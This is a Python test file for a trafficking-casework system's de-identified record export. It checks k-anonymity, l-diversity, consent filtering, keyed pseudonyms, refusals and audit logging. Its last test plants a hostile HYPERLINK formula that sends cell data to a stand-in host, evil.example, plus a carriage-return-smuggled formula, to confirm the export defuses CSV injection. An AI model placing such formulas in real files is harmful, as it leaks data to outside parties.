"""The record-level de-identified export: k-anonymity and l-diversity on the quasi-identifiers,
no identifier or free text, keyed pseudonymous ids, consent, refusals and the audit row."""

from __future__ import annotations

import csv
import hashlib
import hmac
import io
import json
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.kdf.hkdf import HKDF
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import delete, select, update

from casework.model import AuditEvent, Case, ConsentRecord, Organisation, Survivor
from casework.model.vocab import ConsentKind, Gender
from casework.reporting import profiles, records
from casework.reporting.anonymity import CannotAnonymise, check, generalise
from casework.reporting.release_files import ExportRefused
from casework.vault.opened import OpenVault
from tests.factories import actor_of
from tests.unit.reporting_data import add_person

TODAY = date(2026, 11, 23)
Y2026 = records.Year.parse("2026")
QI = [name for name, _ in records.QUASI_IDENTIFIERS]
RECORDS = (ConsentKind.RECORD_SHARING,)


def national(vault: OpenVault) -> profiles.Profile:
    with vault.session() as session:
        return profiles.get_profile(session, actor_of(vault), "National")


def build(vault: OpenVault, profile: profiles.Profile | None = None) -> records.RecordRelease:
    with vault.transaction() as session:
        return records.build_records(
            session, actor_of(vault), profile or national(vault), Y2026, TODAY
        )


def parse(release: records.RecordRelease) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(release.csv_bytes.decode())))


def crowd(vault: OpenVault, size: int, **overrides: object) -> list[str]:
    """``size`` consenting people with a spread of ages, types and citizenships."""
    kinds = [["SexualExploitation"], ["ForcedLabour"], ["SexualExploitation", "ForcedLabour"]]
    ids = []
    for i in range(size):
        values: dict[str, object] = {
            "intakes": [date(2026, 1 + i % 9, 3)],
            "types": kinds[i % 3],
            "consents": RECORDS,
            "birth": date(1980 + i % 25, 5, 1),
            "citizenship": ["UA", "PH", "KE", "NG"][i % 4],
            "gender": [Gender.FEMININE, Gender.MASCULINE][i % 2],
        }
        values.update(overrides)
        ids.append(add_person(vault, **values))  # type: ignore[arg-type]
    return ids


def test_every_group_meets_k_and_l_and_no_identifier_is_released(officer: OpenVault) -> None:
    crowd(officer, 60)
    release = build(officer)
    rows = parse(release)
    manifest = release.manifest
    k_got, l_got = check(
        [[r[q] for q in QI] for r in rows],
        [tuple(r[c] for c in records.EXPLOITATION_COLUMNS) for r in rows],
    )
    assert k_got >= 5 and l_got >= 2
    assert (manifest["k_achieved"], manifest["l_achieved"]) == (k_got, l_got)
    assert len(rows) == manifest["records"] and len(rows) + release.dropped == 60
    assert release.dropped <= 60 * 5 // 100
    assert list(rows[0]) == records.HEADER
    assert not any(name in records.HEADER for name in ("prs_FirstName", "prs_Birthdate"))
    flat = release.csv_bytes.decode()
    assert "Canary" not in flat and "Quillfeather" not in flat and "1995-" not in flat
    levels = manifest["hierarchy_levels"]
    assert isinstance(levels, dict)
    assert set(levels) == set(QI)
    assert all(len(r["pid"]) == 32 for r in rows) and len({r["pid"] for r in rows}) == len(rows)


def test_generalisation_climbs_only_as_far_as_needed(officer: OpenVault) -> None:
    crowd(officer, 40, birth=date(1990, 5, 1), citizenship="UA", gender=Gender.FEMININE)
    rows = parse(build(officer))
    # everyone shares age, gender and citizenship: those stay at their finest level
    assert {r["ext_AgeBandAtIdentification"] for r in rows} == {"30-38"}
    assert {r["prs_Gender"] for r in rows} == {"Feminine"}
    assert {r["prs_Citizenship"] for r in rows} == {"UA"}
    assert {r["ext_OrganisationProvince"] for r in rows} == {"Mombasa"}


def test_only_people_with_record_consent_are_released(officer: OpenVault) -> None:
    crowd(officer, 30)
    withdrawn = crowd(officer, 3)
    crowd(officer, 4, consents=(ConsentKind.AGGREGATE_REPORTING,))
    with officer.transaction() as session:
        for record in session.execute(
            select(ConsentRecord).where(ConsentRecord.survivor_id.in_(withdrawn))
        ).scalars():
            record.withdrawn_on = date(2026, 10, 1)
    release = build(officer)
    assert release.records + release.dropped == 30
    assert release.manifest["people_excluded_for_consent"] in (5, 10)  # 7, rounded to base 5


def test_pseudonymous_ids_are_keyed_per_hub(officer: OpenVault) -> None:
    [person] = crowd(officer, 1)
    crowd(officer, 29)
    with officer.transaction() as session:
        profiles.add_profile(
            session, actor_of(officer), "Other hub", "EU-X", records_enabled=True, k=5
        )
        secret = session.execute(select(Organisation.reporting_secret)).scalar_one()
    key = HKDF(algorithm=hashes.SHA256(), length=32, salt=None, info=b"KE-NRM").derive(secret)
    expected = hmac.new(key, b"pid-v1" + person.encode(), hashlib.sha256).hexdigest()[:32]
    national_pids = {r["pid"] for r in parse(build(officer))}
    assert expected in national_pids
    assert national_pids == {r["pid"] for r in parse(build(officer))}  # stable
    with officer.session() as session:
        other = profiles.get_profile(session, actor_of(officer), "Other hub")
    assert not national_pids & {r["pid"] for r in parse(build(officer, other))}


def test_refusals_write_nothing(officer: OpenVault, tmp_path: Path) -> None:
    with officer.transaction() as session:
        profiles.add_profile(session, actor_of(officer), "Aggregate only", "KE-AGG")
        aggregate_only = profiles.get_profile(session, actor_of(officer), "Aggregate only")
    out = tmp_path / "out"

    def export(year: str, profile: profiles.Profile | None = None) -> None:
        with officer.transaction() as session:
            records.export_records(
                session,
                actor_of(officer),
                profile or national(officer),
                records.Year.parse(year),
                out,
                TODAY,
            )

    with pytest.raises(ExportRefused, match="No case was active"):
        export("2026")
    crowd(officer, 3)
    with pytest.raises(ExportRefused, match="does not allow record-level"):
        export("2026", aggregate_only)
    with pytest.raises(ExportRefused, match="not started"):
        export("2027")
    with pytest.raises(ExportRefused, match=r"3 of 3 records"):
        export("2026")  # three people can never form a group of five
    assert not out.exists()
    out.mkdir()
    (out / "left.txt").write_text("x")
    crowd(officer, 30)
    with pytest.raises(ExportRefused, match="not empty"):
        export("2026")
    assert sorted(p.name for p in out.iterdir()) == ["left.txt"]
    with officer.session() as session:
        audited = session.execute(
            select(AuditEvent).where(AuditEvent.action == "export.records")
        ).all()
    assert audited == []


def test_export_writes_files_and_an_audit_row(officer: OpenVault, tmp_path: Path) -> None:
    crowd(officer, 30)
    with officer.transaction() as session:
        release = records.export_records(
            session, actor_of(officer), national(officer), Y2026, tmp_path / "a", TODAY
        )
        records.export_records(
            session, actor_of(officer), national(officer), Y2026, tmp_path / "b", TODAY
        )
    written = tmp_path / "a" / "records.csv"
    assert written.read_bytes() == (tmp_path / "b" / "records.csv").read_bytes()
    manifest = json.loads((tmp_path / "a" / "manifest.json").read_text())
    assert manifest["records_csv_sha256"] == hashlib.sha256(written.read_bytes()).hexdigest()
    assert manifest["year"] == "2026" and manifest["k"] == 5 and release.records > 0
    assert (written.stat().st_mode & 0o077) == 0
    with officer.session() as session:
        row = (
            session.execute(select(AuditEvent).where(AuditEvent.action == "export.records"))
            .scalars()
            .first()
        )
    assert row is not None
    detail = json.loads(row.detail)
    assert detail["period"] == "2026"
    assert detail["sha256"]["records.csv"] == manifest["records_csv_sha256"]


def test_generalise_refuses_with_figures() -> None:
    ladders = [[["a", "b", "c"], ["*", "*", "*"]]]
    with pytest.raises(CannotAnonymise) as raised:
        generalise(ladders, ["s", "t", "u"], k=5, l_div=2, max_dropped=0)
    assert (raised.value.records, raised.value.failing, raised.value.allowed) == (3, 3, 0)


people = st.lists(
    st.fixed_dictionaries(
        {
            "birth_year": st.integers(1950, 2020),
            "gender": st.sampled_from(list(Gender)),
            "citizenship": st.sampled_from(["UA", "PH", "KE", "NG", "BR", "ZZ", ""]),
            "country": st.sampled_from(["KE", "AE", "QA", ""]),
            "types": st.sampled_from(
                [["SexualExploitation"], ["ForcedLabour"], ["Servitude"], [], ["Other"]]
            ),
            "intake_year": st.integers(2022, 2026),
            "trafficked_at": st.one_of(st.none(), st.integers(5, 60)),
            "consent": st.sampled_from([True, True, True, False]),
        }
    ),
    min_size=20,
    max_size=80,
)


@settings(
    max_examples=12,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(population=people)
def test_any_released_file_holds_k_and_l(
    officer: OpenVault, population: list[dict[str, Any]]
) -> None:
    with officer.transaction() as session:
        for model in (ConsentRecord, Case, Survivor):
            session.execute(delete(model))
    for spec in population:
        add_person(
            officer,
            intakes=[date(spec["intake_year"], 6, 1)],
            types=spec["types"],
            consents=RECORDS if spec["consent"] else (),
            birth=date(spec["birth_year"], 3, 3),
            citizenship=spec["citizenship"],
            gender=spec["gender"],
            survivor={"age_when_trafficked": spec["trafficked_at"], "safe_contact_note": "Canary"},
            case={"country_of_exploitation": spec["country"]},
        )
    try:
        release = build(officer)
    except ExportRefused as refused:
        assert "nothing to export" in refused.message or "Nothing was exported" in refused.message
        return
    rows = parse(release)
    k_got, l_got = check(
        [[r[q] for q in QI] for r in rows],
        [tuple(r[c] for c in records.EXPLOITATION_COLUMNS) for r in rows],
    )
    assert k_got >= 5 and l_got >= 2
    assert release.dropped <= (release.dropped + len(rows)) * 5 // 100
    assert b"Canary" not in release.csv_bytes and b"Quillfeather" not in release.csv_bytes
    assert build(officer).csv_bytes == release.csv_bytes


def test_without_the_organisation_secret_the_export_fails_closed(officer: OpenVault) -> None:
    crowd(officer, 30)
    with officer.transaction() as session:
        session.execute(update(Organisation).values(reporting_secret=b""))
    with pytest.raises(ExportRefused, match="no reporting secret"):
        build(officer)


def test_no_cell_of_records_csv_can_run_as_a_formula(officer: OpenVault) -> None:
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
    crowd(officer, 40, birth=date(1990, 5, 1), citizenship="UA", gender=Gender.FEMININE)
    with officer.transaction() as session:
        session.execute(update(Organisation).values(province=hostile))
    release = build(officer)
    rows = parse(release)
    assert {r["ext_OrganisationProvince"] for r in rows} == {"'" + hostile}
    cells = [cell for row in rows for cell in row.values()]
    assert not any(cell.startswith(tuple("=+-@\t\r")) for cell in cells)
    assert {r["ext_AgeBandAtIdentification"] for r in rows} == {"30-38"}  # codes untouched
    with officer.transaction() as session:
        session.execute(update(Organisation).values(province="x\r@SUM(1)"))
    rows = parse(build(officer))  # a carriage return cannot start a new row either
    assert {r["ext_OrganisationProvince"] for r in rows} == {"x\n@SUM(1)"}
    assert all(len(row) == len(records.HEADER) for row in rows)
